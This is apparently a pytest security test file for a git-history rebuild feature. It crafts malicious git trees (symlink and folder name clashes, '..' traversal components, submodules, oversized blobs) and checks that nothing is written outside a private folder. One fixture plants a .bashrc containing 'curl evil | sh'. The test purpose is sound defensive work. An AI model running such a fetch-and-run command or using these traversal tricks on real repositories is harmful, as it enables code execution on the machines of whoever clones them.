"""--known-as-of on crafted histories: a commit's tree is rebuilt without ever writing outside
its private folder, whatever the tree holds (trees made with git mktree, as a clone can bring)."""

from __future__ import annotations

import datetime as dt
import gc
import os
import stat
import tempfile
from pathlib import Path

import pytest

from tests.conftest import MINI_RECOMMENDATIONS, evidence_toml
from tests.git_helpers import (  # noqa: F401
    blob,
    commit_tree,
    git,
    init_repo,
    isolated_git,
    tree,
)
from tracker.cli import main
from tracker.git import gitops, rebuild

ITEM = "2025-03-01-an-event"


@pytest.fixture
def private_tmp(tmp_path_factory, monkeypatch) -> Path:
    """Where the rebuilt trees go: a temp folder of this test's own, so escapes show."""
    folder = tmp_path_factory.mktemp("tmpdir")
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


@pytest.fixture
def outside(tmp_path_factory) -> Path:
    """A folder outside the project and the temp folder: nothing may ever appear in it."""
    return tmp_path_factory.mktemp("outside")


def files_under(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))


def good_tree(root: Path, evidence: list[tuple[str, str, str]] | None = None) -> str:
    """recommendations.toml and evidence/ as given (default: one valid item in 2025/)."""
    if evidence is None:
        year = tree(root, [("100644", blob(root, evidence_toml()), f"{ITEM}.toml")])
        evidence = [("040000", year, "2025")]
    return tree(
        root,
        [
            ("100644", blob(root, MINI_RECOMMENDATIONS), "recommendations.toml"),
            ("040000", tree(root, evidence), "evidence"),
        ],
    )


def crafted_then_clean(root: Path, evidence: list[tuple[str, str, str]]) -> None:
    """A crafted commit on 2025-03-02, then a clean one on 2025-06-01 (what a clone checks out)."""
    crafted = commit_tree(root, good_tree(root, evidence), [], "crafted", "2025-03-02T10:00:00Z")
    commit_tree(root, good_tree(root), [crafted], "clean", "2025-06-01T10:00:00Z")
    git(root, "reset", "-q", "--hard")


# --- the attack: evidence/2025 twice, a link out and a folder holding .bashrc ----------------


def test_a_link_and_a_folder_of_one_name_write_nothing_outside(
    tmp_path, outside, private_tmp, capsys
):
    project = init_repo(tmp_path / "clone-source")
    bashrc = tree(project, [("100644", blob(project, "curl evil | sh\n"), ".bashrc")])
    link = blob(project, str(outside))
    crafted_then_clean(project, [("120000", link, "2025"), ("040000", bashrc, "2025")])
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", str(project), str(clone))

    then = gitops.workspace_known_as_of(clone, dt.date(2025, 3, 3))
    assert files_under(outside) == []
    clash = [p for p in then.problems if "as a file (or link) and as a folder" in p.message]
    assert {p.path for p in clash} == {"evidence/2025", "evidence/2025/.bashrc"}
    assert all("nothing written" in p.message for p in clash)
    del then  # the rebuilt tree lives as long as the workspace reading it, and no longer
    gc.collect()
    assert files_under(private_tmp) == []

    code = main(["status", "-C", str(clone), "--known-as-of", "2025-03-03"])
    capsys.readouterr()
    assert code in (0, 1)
    assert files_under(outside) == []


def test_the_folder_first_then_the_link_writes_nothing_outside(tmp_path, outside, private_tmp):
    """git sorts tree entries: both orders of the two entries are reported, neither written."""
    init_repo(tmp_path)
    inner = tree(tmp_path, [("100644", blob(tmp_path, "x = 1\n"), "x.toml")])
    link = blob(tmp_path, str(outside))
    crafted_then_clean(
        tmp_path, [("040000", inner, "2025"), ("120000", link, "2025"), ("040000", inner, "2025")]
    )
    then = gitops.workspace_known_as_of(tmp_path, dt.date(2025, 3, 3))
    assert files_under(outside) == []
    assert any(p.path == "evidence/2025" for p in then.problems)


@pytest.mark.parametrize(
    "names",
    [
        ["..", "..", "pwned.toml"],  # evidence/../../pwned.toml: beside the private folder
        ["..", "..", "..", "pwned.toml"],
        ["2025", "..", "..", "..", "pwned.toml"],
    ],
)
def test_dot_dot_components_are_refused_before_any_path_is_built(tmp_path, private_tmp, names):
    init_repo(tmp_path)
    payload = blob(tmp_path, "owned = true\n")
    entry: tuple[str, str, str] = ("100644", payload, names[-1])
    for name in reversed(names[:-1]):
        entry = ("040000", tree(tmp_path, [entry]), name)
    crafted_then_clean(tmp_path, [entry])
    then = gitops.workspace_known_as_of(tmp_path, dt.date(2025, 3, 3))
    assert list(tmp_path.parent.rglob("pwned.toml")) == []
    assert list(private_tmp.parent.rglob("pwned.toml")) == []
    [problem] = [p for p in then.problems if "pwned" in p.path]
    assert "'..' component" in problem.message
    assert then.records == []


def test_a_link_in_evidence_is_recreated_as_a_link_and_reported(tmp_path, outside, private_tmp):
    """As in the work tree: the store reports the link and reads nothing through it."""
    init_repo(tmp_path)
    (outside / "secret.toml").write_text('id = "secret"\n', "utf-8")
    link = blob(tmp_path, str(outside))
    item = blob(tmp_path, evidence_toml())
    year = tree(tmp_path, [("100644", item, f"{ITEM}.toml")])
    crafted_then_clean(tmp_path, [("040000", year, "2025"), ("120000", link, "2026")])
    then = gitops.workspace_known_as_of(tmp_path, dt.date(2025, 3, 3))
    [problem] = [p for p in then.problems if p.path.startswith("evidence/2026")]
    assert "symbolic link" in problem.message
    assert [e.item.id for e in then.iter_items()] == [ITEM]
    assert files_under(outside) == ["secret.toml"]


def test_a_submodule_and_an_oversized_blob_are_reported_not_written(tmp_path, private_tmp):
    init_repo(tmp_path)
    big = blob(tmp_path, b"x" * (rebuild.MAX_BLOB_BYTES + 1))
    year = tree(
        tmp_path,
        [
            ("100644", blob(tmp_path, evidence_toml()), f"{ITEM}.toml"),
            ("100644", big, "2025-01-01-huge.txt"),
            ("160000", "1" * 40, "2025-01-02-module"),
        ],
    )
    commit_tree(
        tmp_path, good_tree(tmp_path, [("040000", year, "2025")]), [], "m", "2025-03-02T10:00:00Z"
    )
    then = gitops.workspace_known_as_of(tmp_path, dt.date(2025, 3, 3))
    messages = {p.path: p.message for p in then.problems}
    assert "MiB a data file may hold" in messages["evidence/2025/2025-01-01-huge.txt"]
    assert "submodule" in messages["evidence/2025/2025-01-02-module"]
    assert [e.item.id for e in then.iter_items()] == [ITEM]


# --- the guards, one by one -----------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "",
        "/etc/passwd",
        "evidence/../x.toml",
        "evidence/./x.toml",
        "evidence//x.toml",
        "evidence/x.toml/",
        "evidence/a\0b.toml",
        "evidence\\..\\x.toml",
        "evidence/\udcff.toml",
        "/".join(["d"] * (rebuild.MAX_DEPTH + 1)),
    ],
)
def test_unsafe_paths_are_named(path):
    assert rebuild.unsafe_path(path) is not None


@pytest.mark.parametrize(
    "path", ["recommendations.toml", "evidence/2025/2025-01-01-x.toml", "evidence/.gitkeep"]
)
def test_plain_paths_pass(path):
    assert rebuild.unsafe_path(path) is None


def entry(path: str, sha: str = "a" * 40, mode: str = "100644", size: int = 5):
    return rebuild.TreeEntry(mode=mode, kind="blob", sha=sha, size=size, path=path)


def test_the_plan_skips_every_path_seen_twice_and_what_is_below_it():
    kept, problems = rebuild.plan(
        [
            entry("evidence/2025", mode="120000"),
            entry("evidence/2025/.bashrc"),
            entry("evidence/2026/a.toml"),
            entry("evidence/2026/a.toml"),
            entry("evidence/2027/b.toml"),
            entry("evidence/../x.toml"),
        ],
        "c" * 40,
    )
    assert [e.path for e in kept] == ["evidence/2027/b.toml"]
    assert sorted(p.path for p in problems) == [
        "evidence/../x.toml",
        "evidence/2025",
        "evidence/2025/.bashrc",
        "evidence/2026/a.toml",
    ]


def test_write_tree_never_follows_a_link_on_the_way(tmp_path, outside):
    """O_NOFOLLOW on every folder: a link already in place (however it came) leads nowhere."""
    base = tmp_path / "base"
    base.mkdir()
    (base / "evidence").symlink_to(outside)
    problems = rebuild.write_tree(
        base, [entry("evidence/2025/a.toml")], {"a" * 40: b"data"}, "c" * 40
    )
    assert files_under(outside) == []
    [problem] = problems
    assert "not a folder here" in problem.message


def test_write_tree_never_writes_through_or_over_a_file_in_place(tmp_path, outside):
    """O_CREAT|O_EXCL|O_NOFOLLOW: a link (or file) already at the name is left as it is."""
    base = tmp_path / "base"
    (base / "evidence" / "2025").mkdir(parents=True)
    target = outside / "victim"
    target.write_text("untouched", "utf-8")
    (base / "evidence" / "2025" / "a.toml").symlink_to(target)
    problems = rebuild.write_tree(
        base, [entry("evidence/2025/a.toml")], {"a" * 40: b"overwritten"}, "c" * 40
    )
    assert target.read_text("utf-8") == "untouched"
    assert len(problems) == 1
    assert "already in its place" in problems[0].message


def test_write_tree_checks_paths_itself(tmp_path):
    base = tmp_path / "base" / "inner"
    base.mkdir(parents=True)
    problems = rebuild.write_tree(base, [entry("../escaped.toml")], {"a" * 40: b"data"}, "c" * 40)
    assert not (tmp_path / "base" / "escaped.toml").exists()
    assert "'..' component" in problems[0].message


def test_the_private_folder_is_private_and_removed(private_tmp, outside):
    with rebuild.private_folder() as folder:
        assert folder.parent == private_tmp
        assert stat.S_IMODE(os.lstat(folder).st_mode) == 0o700
        (folder / "link").symlink_to(outside)
        (outside / "kept").write_text("x", "utf-8")
    assert not folder.exists()
    assert files_under(outside) == ["kept"]  # removing the folder followed no link
